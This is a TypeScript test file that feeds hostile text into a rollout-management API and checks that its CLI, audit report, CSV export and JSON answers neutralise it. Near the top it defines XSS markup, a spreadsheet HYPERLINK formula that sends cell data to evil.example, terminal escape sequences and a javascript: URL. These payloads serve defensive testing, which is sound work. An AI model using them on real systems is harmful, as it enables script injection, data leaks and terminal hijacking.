import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseTable } from '../../cli/data/table.js';
import { newSpec, rolloutAtGate } from '../fakes/api/api-rollouts.js';
import { type ApiUnderTest, startApi } from '../fakes/api/api-server.js';
import { runCliFor } from '../fakes/cli/cli-run.js';

/** All that the API lets through as one printable line. */
const MARKUP = '<img src=x onerror=alert(1)></title></style><script>alert(1)</script>" onload="alert(1)';
const FORMULA = '=HYPERLINK("http://evil.example?"&A1,"look")';
const STEERING = 'a\u001b[2J\u001b]0;evil\u0007\u009b31m\u202eb\r';

let api: ApiUnderTest;
let id: string;
let feature: string;
let startedId: string;
beforeAll(async () => {
  api = await startApi();
  ({ id, feature } = await rolloutAtGate(api));
  startedId = await start();
  await writeTexts();
});
afterAll(() => api.stop());

const must = async (method: string, path: string, body: unknown) => {
  const answer = await api.ask(method, path, { as: 'ada@example.com', body, headers: { 'if-match': '*' } });
  if (answer.status >= 300) throw new TypeError(`${path}: ${JSON.stringify(answer.body)}`);
  return answer.body;
};

/** A spec with markup wherever it takes a text. */
async function start(): Promise<string> {
  const spec = newSpec('hostile-texts') as { flags: Record<string, unknown>; summary: string; authors?: string[]; template?: object };
  spec.summary = MARKUP;
  spec.authors = [MARKUP.slice(0, 60)];
  spec.template = { name: 'careful-week', version: MARKUP.slice(0, 60) };
  return (await must('POST', '/v1/rollouts', spec)).id;
}

/** The same in everything else that people and programs write. */
async function writeTexts(): Promise<void> {
  await must('POST', `/v1/rollouts/${id}/decisions`, { verb: 'pause', reason: MARKUP, id: MARKUP });
  await must('POST', `/v1/rollouts/${id}/decisions`, { verb: 'abort', reason: FORMULA });
  await must('POST', `/v1/rollouts/${startedId}/decisions`, { verb: 'abort', reason: MARKUP });
  const { freeze } = await must('POST', '/v1/freezes', { kind: 'stop', reason: MARKUP, feature });
  await must('POST', `/v1/freezes/${freeze.id}/lift`, { reason: FORMULA });
  const { key } = await must('POST', '/v1/keys', { name: 'hostile', grants: ['viewer'] });
  await must('POST', `/v1/keys/${key.id}/revoke`, { reason: MARKUP });
  await must('POST', '/v1/webhooks', { name: MARKUP, url: 'https://hooks.example.com/<script>' });
  const labels = { alertname: STEERING + MARKUP, tidegate_feature: feature };
  await must('POST', '/v1/alerts', {
    version: '4',
    alerts: [
      {
        ...{ status: 'firing', startsAt: '2026-01-05T09:00:00Z', fingerprint: STEERING, labels },
        ...{ annotations: { summary: STEERING + MARKUP }, generatorURL: 'javascript:alert(1)' },
      },
    ],
  });
  const about = { rollout: id, stageAttempt: 2, assignment: 'random', category: MARKUP.slice(0, 60) };
  const texts = { input: STEERING + MARKUP, output: `\0${STEERING}${FORMULA}` };
  const samples = (['control', 'candidate'] as const).map((arm) => ({ ...about, ...texts, id: `${arm}${MARKUP}`, arm, unit: MARKUP }));
  await must('POST', '/v1/samples', { samples });
  await must('POST', '/v1/outcomes', { outcomes: [{ ...about, id: MARKUP, arm: 'control', unit: MARKUP, metrics: { error: 0 } }] });
  for (const version of ['prompt@12', 'prompt@13'])
    await must('PUT', `/v1/versions/prompt/${version}`, { content: `${version}\n${STEERING}${MARKUP}` });
  await must('POST', `/v1/features/${feature}/kill`, { reason: FORMULA });
  // What comes from other systems, such as an error of a flag platform, went through no check of the API.
  for (const [index, summary] of [STEERING, `${STEERING}${MARKUP}`, FORMULA, '@SUM(1)', '+1', '-1', '\t=1', '\uff1d1'].entries())
    await api.store.audit.append([
      {
        ...{ rolloutId: id, key: `hostile/${index}`, atMs: api.clock.nowMs, kind: 'flagWrite' as const, summary },
        ...{ principal: { id: `x${STEERING}`, via: 'system' as const }, data: { [MARKUP]: summary, text: STEERING } },
      },
    ]);
}

const run = (argv: readonly string[], isTty = false) => runCliFor([...argv], { env: { TIDEGATE_URL: api.url }, isTty });

describe('R-AUDIT-1 texts from outside in the page of a rollout', () => {
  it('are texts, wherever they stand', async () => {
    for (const rollout of [id, startedId]) {
      const { code, stdout, stderr } = await run(['audit', 'report', rollout, '--out', '-']);
      expect([code, stderr]).toEqual([0, expect.any(String)]);
      expect(stdout).toContain('&lt;img src=x onerror=alert(1)&gt;');
      expect(stdout).not.toMatch(/<(?:img|script|iframe|object|embed|link|form|a|base)[\s>]/i);
      expect(stdout.match(/<[a-z][^>]*>/gi)?.filter((tag) => /\son\w+\s*=/i.test(tag.replaceAll(/"[^"]*"/g, '""')))).toEqual([]);
      expect(stdout).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e]/);
      expect(stdout).toContain('Content-Security-Policy');
    }
  });
});

describe('R-AUDIT-1 texts from outside in a spreadsheet', () => {
  it('are never the beginning of a formula', async () => {
    const { stdout } = await run(['audit', 'export', '--format', 'csv']);
    const table = parseTable(stdout);
    const cells = table.ok ? table.value.flatMap(({ cells: row }) => Object.values(row)) : [];
    expect(cells.length).toBeGreaterThan(100);
    expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
    expect(cells.filter((cell) => /^[\s\u00a0]*[=+\-@\uff1d|%]/.test(cell))).toEqual([]);
    expect(stdout).not.toMatch(/[\u001b\u009b\u0007\u202e]/);
  });
});

/** What a terminal obeys; colours and the drawing of our own screen are left out first. */
const OBEYED = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('R-UX-1 texts from outside on a terminal', () => {
  const commands = (): readonly (readonly string[])[] => [
    ['list'],
    ['get', id],
    ['timeline', id],
    ['explain', id],
    ['report', id],
    ['verdicts', id],
    ['compare', id],
    ['freezes'],
    ['keys', 'list', '--all'],
    ['webhooks', 'list'],
    ['audit', 'verify', id],
    ['get', `no-${STEERING}`],
    ['no-such-command', STEERING],
  ];

  it.each(['table', 'json', 'ndjson'])('steer nothing, as %s', async (format) => {
    for (const command of commands()) {
      const { stdout, stderr } = await run([...command, '-o', format], true);
      for (const text of [stdout, stderr]) {
        const [obeyed] = OBEYED.exec(text.replaceAll(/\u001b\[[0-9;]*m/g, '')) ?? [];
        expect([command[0], obeyed]).toEqual([command[0], undefined]);
        expect(text).not.toContain('\u001b[2J');
      }
    }
  });

  it('steer nothing when entries are exported to it', async () => {
    const { stdout } = await run(['audit', 'export'], true);
    expect(stdout).toContain('hostile/0');
    expect(stdout).not.toMatch(OBEYED);
    const entry = stdout.split('\n').find((line) => line.includes('hostile/0')) ?? '{}';
    expect(JSON.parse(entry).summary).toBe(STEERING);
  });
});

describe('R-SEC what texts cannot do in answers', () => {
  it('be anything but JSON, whatever a browser would like to make of it', async () => {
    for (const path of [
      `/v1/rollouts/${id}`,
      `/v1/rollouts/${id}/comparison`,
      '/v1/versions/prompt/prompt@13',
      '/v1/alerts',
      '/v1/audit',
    ]) {
      const { status, headers } = await api.ask('GET', path, { headers: { accept: 'text/html' } });
      expect([path, status, headers.get('content-type')]).toEqual([path, 200, 'application/json; charset=utf-8']);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  it('make a link of an alert that runs something', async () => {
    expect((await api.ask('GET', '/v1/alerts')).body.alerts[0].url).toBeNull();
  });
});
